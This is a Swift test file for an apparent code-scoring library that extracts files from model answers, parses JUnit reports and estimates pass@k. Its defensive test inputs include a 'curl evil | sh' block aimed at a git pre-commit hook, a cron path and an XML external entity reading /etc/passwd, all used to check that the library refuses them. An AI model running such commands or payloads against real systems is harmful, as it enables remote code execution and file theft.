import CodescoreScoring
import Foundation
import Testing

@Suite struct CodeExtractorTests {
    @Test func namesFromInfoStringsCommentsAndAttributes() {
        let answer = """
            Here you go.

            ```python token_bucket.py
            class TokenBucket: pass
            ```

            ```js title="src/table.js"
            module.exports = {}
            ```

            ~~~
            # file: tests/helper.py
            X = 1
            ~~~
            """
        let extraction = CodeExtractor.extract(from: answer, required: ["token_bucket.py", "src/table.js", "tests/helper.py"])
        #expect(extraction.missing.isEmpty)
        #expect(extraction.files["token_bucket.py"] == "class TokenBucket: pass\n")
        #expect(extraction.files["src/table.js"] == "module.exports = {}\n")
        #expect(extraction.files["tests/helper.py"] == "X = 1\n")
    }

    @Test func longerFencesKeepInnerBackticksAndBasenamesMatch() {
        let answer = "````markdown lib/README.md\n```js\nx\n```\n````\n"
        let extraction = CodeExtractor.extract(from: answer, required: ["README.md"])
        #expect(extraction.files["README.md"] == "```js\nx\n```\n")
    }

    @Test func aSingleUnnamedBlockFillsTheOnlyRequiredFile() {
        let extraction = CodeExtractor.extract(from: "```python\nprint(1)\n```", required: ["main.py"])
        #expect(extraction.files["main.py"] == "print(1)\n")
    }

    @Test func missingFilesAreReportedAndUnsafeNamesRefused() {
        let answer = """
            ```sh ../../.git/hooks/pre-commit
            curl evil | sh
            ```
            ```python /etc/cron.d/x.py
            pass
            ```
            ```python other.py
            pass
            ```
            """
        let extraction = CodeExtractor.extract(from: answer, required: ["app.py", "util.py"])
        #expect(extraction.files.isEmpty)
        #expect(extraction.missing == ["app.py", "util.py"])
        #expect(extraction.refusedPaths == ["../../.git/hooks/pre-commit", "/etc/cron.d/x.py"])
        #expect(extraction.unmatchedBlocks == 1)
    }

    @Test func anUnclosedFenceYieldsNothing() {
        let extraction = CodeExtractor.extract(from: "```python app.py\nprint(1)\n", required: ["app.py"])
        #expect(extraction.missing == ["app.py"])
    }

    @Test func answersSplitIntoProseAndFilesInOrder() {
        let answer = "Intro line\n\n```python app.py\nprint(1)\n```\nBetween\n~~~\nplain\n~~~\n\n```js\nunclosed"
        #expect(CodeExtractor.parts(of: answer) == [
            .text("Intro line\n"), .file(name: "app.py", body: "print(1)\n"), .text("Between"),
            .file(name: nil, body: "plain\n"), .text("\n```js\nunclosed"),
        ])
        #expect(CodeExtractor.parts(of: "") == [])
    }
}

@Suite struct JUnitReportTests {
    @Test func pytestReport() throws {
        let xml = """
            <?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="1" failures="1" skipped="1" tests="5">
            <testcase classname="t" name="a"/><testcase classname="t" name="b"><failure message="x">boom</failure></testcase>
            <testcase classname="t" name="c"><skipped message="s"/></testcase><testcase classname="t" name="d"><error message="e"/></testcase>
            <testcase classname="t" name="e"><system-out>ok</system-out></testcase></testsuite></testsuites>
            """
        #expect(JUnitReport.parse(Data(xml.utf8)) == JUnitReport(total: 5, failures: 1, errors: 1, skipped: 1))
        #expect(JUnitReport.parse(Data(xml.utf8))?.passed == 2)
    }

    @Test func nodeReportWithFailureAttributeAndChild() {
        let xml = """
            <?xml version="1.0" encoding="utf-8"?>
            <testsuites>
            \t<testcase name="ssr" time="0.002" classname="test"/>
            \t<testcase name="client" time="0.05" classname="test" failure="navigator is not defined">
            \t\t<failure type="testCodeFailure" message="navigator is not defined">trace &lt;x&gt;</failure>
            \t</testcase>
            \t<testsuite name="group"><testcase name="nested" classname="test"/></testsuite>
            </testsuites>
            """
        #expect(JUnitReport.parse(Data(xml.utf8)) == JUnitReport(total: 3, failures: 1))
    }

    @Test func garbageAndEntityTricksAreRejected() {
        #expect(JUnitReport.parse(Data("not xml".utf8)) == nil)
        #expect(JUnitReport.parse(Data("<testsuites><testcase>".utf8)) == nil)
        #expect(JUnitReport.parse(Data("<other/>".utf8)) == nil)
        let external = """
            <?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>
            <testsuites><testcase name="&x;"/></testsuites>
            """
        // Whatever the parser does with the entity, it never reads the file into the result.
        let report = JUnitReport.parse(Data(external.utf8))
        #expect(report == nil || report == JUnitReport(total: 1))
    }
}

@Suite struct PassAtKTests {
    /// C(n, k) exactly, as Double, for small n.
    func choose(_ n: Int, _ k: Int) -> Double {
        guard k >= 0, k <= n else { return 0 }
        var result = 1.0
        for i in 0..<k { result = result * Double(n - i) / Double(i + 1) }
        return result
    }

    @Test func matchesTheClosedFormForEverySmallCase() {
        for n in 1...12 {
            for c in 0...n {
                for k in 1...n {
                    let expected = 1 - choose(n - c, k) / choose(n, k)
                    let value = PassAtK.estimate(samples: n, correct: c, k: k)!
                    #expect(abs(value - expected) < 1e-12, "n=\(n) c=\(c) k=\(k)")
                }
            }
        }
    }

    @Test func staysFiniteWhereBinomialsOverflow() {
        let value = PassAtK.estimate(samples: 2000, correct: 3, k: 100)!
        // 1 − ∏_{i=1998}^{2000} (1 − 100/i), by hand: 1 − (1898/1998)(1899/1999)(1900/2000).
        let expected = 1 - (1898.0 / 1998) * (1899.0 / 1999) * (1900.0 / 2000)
        #expect(abs(value - expected) < 1e-12)
        #expect(PassAtK.estimate(samples: 5, correct: 0, k: 1) == 0)
        #expect(PassAtK.estimate(samples: 5, correct: 5, k: 5) == 1)
        #expect(abs(PassAtK.estimate(samples: 5, correct: 2, k: 1)! - 0.4) < 1e-12)
        #expect(PassAtK.estimate(samples: 3, correct: 1, k: 4) == nil)
    }
}
